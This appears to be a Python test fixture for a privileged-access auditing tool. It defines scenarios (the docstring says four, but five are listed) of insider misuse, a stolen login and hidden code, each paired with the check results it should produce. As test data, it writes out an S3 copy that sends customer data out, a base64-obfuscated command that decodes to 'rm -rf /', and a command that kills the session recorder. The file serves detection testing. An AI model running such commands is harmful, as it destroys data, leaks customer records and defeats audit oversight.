# SPDX-License-Identifier: Apache-2.0

"""Four stories that guides on privileged access tell, each in an organisation where all else is in order.

A scenario says what fails, and what must still pass: the signal is only useful if the rest stays quiet. Whatever it
does not name is ``pass`` or ``not_applicable``, so each scenario is the expected outcome of every test.
"""

from collections.abc import Callable
from dataclasses import dataclass, field

from app.records.model import RecorderEvent, Session
from tests.bites.in_order import HOUR, MINUTE, QUIET_DAY, InOrder
from tests.bites.registry import Item


@dataclass
class Found:
    """What must be found: tests that fail and tests that pass, each with the items it is about."""

    fails: dict[str, list[Item]] = field(default_factory=dict)
    passes: dict[str, list[Item]] = field(default_factory=dict)

    @staticmethod
    def pairs(said: dict[str, list[Item]]) -> set[tuple[str, str]]:
        """Return (test, item id)."""
        return {
            (test_id, item if isinstance(item, str) else item.id) for test_id, items in said.items() for item in items
        }


Scenario = Callable[[InOrder], Found]


def human_error_that_was_handled(it: InOrder) -> Found:
    """All rows are changed in an approved session; the auditor calls it an error, and an incident is opened."""
    access = it.mistake
    return Found(
        passes={
            "APR-01": [access.grant],
            "SES-01": [access.session],
            "REV-01": [access.session],
            "RSK-01": [access.events[0]],
            "RSK-04": [access.events[0]],
            "TKT-01": [access.grant],
        }
    )


def human_error_that_nobody_saw(it: InOrder) -> Found:
    """The same, and nobody looked: access was in order, what was done with it was not."""
    access = it.mistake
    for each in (access.review, it.mistake_review, it.mistake_incident):
        each.drop()
    return Found(
        fails={"RSK-01": [access.events[0]], "RSK-04": [access.events[0]], "REV-01": [access.session]},
        passes={"APR-01": [access.grant], "APR-05": [access.grant], "SES-01": [access.session]},
    )


def misuse_from_inside(it: InOrder) -> Found:
    """Somebody who is given the same right every day uses it on a Sunday night, for data that nobody let them read.

    The right, its approval and its ticket are all valid; only what was done with them is not.
    """
    it.habit_review.drop()
    texts = ("SELECT * FROM customers", "aws s3 cp customers.csv s3://private-7/customers.csv")
    access = it.access(it.busy, it.databases[0], commands=texts, starts=QUIET_DAY + 22 * HOUR)
    access.ticket.change(kind="request")
    access.grant.change(data_access_approved=False)
    access.review.drop()
    return Found(
        fails={
            "RSK-01": list(access.events),
            "RSK-02": list(access.events),
            "RSK-06": list(access.events),
            "REV-01": [access.session],
            "TKT-02": [it.busy],
        },
        passes={
            "APR-01": [access.grant],
            "APR-05": [access.grant],
            "SES-01": [access.session],
            "SES-02": [access.login],
            "IDN-04": [access.session],
        },
    )


def stolen_login(it: InOrder) -> Found:
    """Somebody with a worker's password logs in straight to the host, from elsewhere and without a second factor.

    The host's own log is all there is: no right, no approval, no recording, no commands.
    """
    victim = it.habit[0].person
    account = it.own_account(victim, it.host)
    at = QUIET_DAY + 3 * HOUR
    login = it.login("L-stolen", it.host, account, at)
    login.change(client_address="203.0.113.66")
    session = it.tell(
        "native",
        Session(
            id="S-stolen",
            subject=victim.record.email,
            run_as=account,
            target=it.host.record.id,
            protocol="ssh",
            interactive=True,
            privileged=True,
            client_address="203.0.113.66",
            started_at=at,
            ended_at=at + 20 * MINUTE,
            status="closed",
            mfa=False,
        ),
    )
    return Found(
        fails={
            "SES-01": [session],
            "SES-02": [login],
            "SES-04": [session],
            "SES-05": [session],
            "REC-01": [session],
            "IDN-04": [session],
            "IDN-05": [victim],
        },
        passes={"IDN-02": [it.accounts[victim.record.id, it.host.record.id]], "DAT-03": [session]},
    )


def hidden_code_and_a_dead_recorder(it: InOrder) -> Found:
    """In an approved session code is decoded and run, and the recorder is killed after it; nobody notices."""
    texts = ("echo cm0gLXJmIC8K | base64 -d | sh", "sudo pkill -9 tlog-rec-session")
    access = it.access(target=it.host, run_as="ops", commands=texts, protocol="ssh")
    access.review.drop()
    at = access.events[1].record.at
    access.recording.change(ends_at=at, coverage=0.2)
    killed = RecorderEvent(id="recorder-killed", at=at, action="failed", target=it.host.record.id)
    stop = it.tell("siem", killed)
    return Found(
        fails={
            "RSK-01": list(access.events),
            "RSK-03": [access.events[1]],
            "RSK-05": [access.events[0]],
            "REC-01": [access.session],
            "REC-03": [stop],
            "REV-01": [access.session],
        },
        passes={
            "APR-01": [access.grant],
            "APR-05": [access.grant],
            "SES-01": [access.session],
            "SES-05": [access.session],
            "IDN-03": [access.session],
            "IDN-04": [access.session],
        },
    )


SCENARIOS: tuple[Scenario, ...] = (
    human_error_that_was_handled,
    human_error_that_nobody_saw,
    misuse_from_inside,
    stolen_login,
    hidden_code_and_a_dead_recorder,
)
